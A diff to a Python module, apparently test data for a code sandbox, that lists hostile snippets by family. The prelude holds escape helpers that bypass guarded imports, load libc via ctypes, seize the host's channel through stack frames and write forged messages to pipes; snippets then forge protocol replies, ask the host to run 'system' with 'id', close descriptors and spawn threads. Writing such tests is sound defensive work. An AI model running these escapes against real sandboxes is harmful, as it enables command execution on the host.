@@ -1,27 +1,36 @@
 """Code that means harm, by family. Each snippet is the body of `f(target)`.
 
 `target` holds the host's canaries: a file, a folder, the process id, the port of a server. A
-snippet that gets at one returns or prints what it found, or changes it. `builtins_of` and `module`
-stand for what an attacker does first: get round the guarded import.
+snippet that gets at one returns or prints what it found, or changes it. The functions of the
+prelude are what an attacker does first: get round the guarded import, find the pipes.
 """
+
+# ruff: noqa: E501  a snippet on a line
 
 from __future__ import annotations
 
 PRELUDE = """
 def f(target):
-    def module(name):
-        for kind in object.__subclasses__():
-            if kind.__name__ == "BuiltinImporter":
-                try:
-                    return kind.load_module(name)
-                except ImportError:
-                    pass
-        return next(k for k in object.__subclasses__() if k.__name__ == "_wrap_close").__init__.__globals__["sys"].modules[name]
     def import_(name):
         import enum
         return enum.sys.modules["builtins"].__import__(name)
     def libc():
         return import_("ctypes").CDLL(None)
+    def channel():
+        import enum
+        frame = enum.sys._getframe()
+        while "self" not in frame.f_locals or not hasattr(frame.f_locals["self"], "channel"):
+            frame = frame.f_back
+        return frame.f_locals["self"].channel
+    def to_pipes(head, text, tail=b""):
+        os = import_("os")
+        sizes = [n.to_bytes(4, "little") for n in (len(text), len(tail), 0)]
+        for descriptor in range(3, 20):
+            try:
+                os.write(descriptor, (b"".join(sizes) if head else b"") + text + tail)
+            except OSError:
+                pass
+        return 1
 """
 
 SNIPPETS: dict[str, list[str]] = {
@@ -141,16 +150,20 @@ SNIPPETS: dict[str, list[str]] = {
         "import random; random.seed = None; return 'done'",
     ],
     "tampering with the protocol": [
-        "os = import_('os')\n    for d in range(3, 20):\n        try: os.write(d, b'x' * 100)\n        except OSError: pass\n    return 1",
-        "os = import_('os')\n    for d in range(3, 20):\n        try: os.write(d, bytes([255] * 12))\n        except OSError: pass\n    return 1",
+        "return to_pipes(False, b'x' * 100)",
+        "return to_pipes(False, bytes([255] * 12))",
+        "return to_pipes(True, b'[' * 100000)",
+        """return to_pipes(True, b'{"op":"return","printed":"","value":{"!":"array","t":"|O8","s":[1],"at":0}}', bytes(8))""",
+        """return to_pipes(True, b'{"op":"error","type":"os.system","message":1,"line":"x","printed":[]}')""",
+        """return to_pipes(True, b'{"op":"return","printed":"","value":{"!":"host","id":-1}}')""",
+        """return to_pipes(True, b'{"op":"return","printed":"","value":1}')""",
         "os = import_('os')\n    for d in range(20):\n        try: os.close(d)\n        except OSError: pass\n    return 1",
-        "import enum; c = enum.sys._getframe(3).f_locals['self'].channel; c.send({'op': 'invoke', 'on': None, 'name': 'system', 'args': ['id'], 'keywords': {}}); return 1",
-        "import enum; c = enum.sys._getframe(3).f_locals['self'].channel; c.send({'op': 'get', 'on': 0, 'name': '__class__'}); return 1",
-        "import enum; c = enum.sys._getframe(3).f_locals['self'].channel; c.send({'op': 'return'}); return 1",
-        "import enum; c = enum.sys._getframe(3).f_locals['self'].channel; c.send([1, 2]); return 1",
-        "os = import_('os'); t = b'[' * 100000; h = len(t).to_bytes(4, 'little') + bytes(8)\n    for d in range(3, 20):\n        try: os.write(d, h + t)\n        except OSError: pass\n    return 1",
-        "os = import_('os'); t = b'{\"op\":\"return\",\"printed\":\"\",\"value\":{\"!\":\"array\",\"t\":\"|O8\",\"s\":[1],\"at\":0}}'; h = len(t).to_bytes(4, 'little') + (8).to_bytes(4, 'little') + bytes(4)\n    for d in range(3, 20):\n        try: os.write(d, h + t + bytes(8))\n        except OSError: pass\n    return 1",
-        "os = import_('os'); t = b'{\"op\":\"error\",\"type\":\"os.system\",\"message\":1,\"line\":\"x\",\"printed\":[]}'; h = len(t).to_bytes(4, 'little') + bytes(8)\n    for d in range(3, 20):\n        try: os.write(d, h + t)\n        except OSError: pass\n    return 1",
+        "return channel().ask({'op': 'invoke', 'on': None, 'name': 'system', 'args': ['id'], 'keywords': {}})",
+        "return channel().ask({'op': 'invoke', 'on': 0, 'name': '__init__', 'args': [], 'keywords': {}})",
+        "return channel().ask({'op': 'get', 'on': 0, 'name': '__class__'})",
+        "channel().send({'op': 'return'}); return 1",
+        "channel().send({'op': 'return', 'value': 2, 'printed': ''}); return 1",
+        "channel().send([1, 2]); return 1",
     ],
     "staying behind": [
         "import_('threading').Thread(target=lambda: 1, daemon=True).start(); return 'started'",
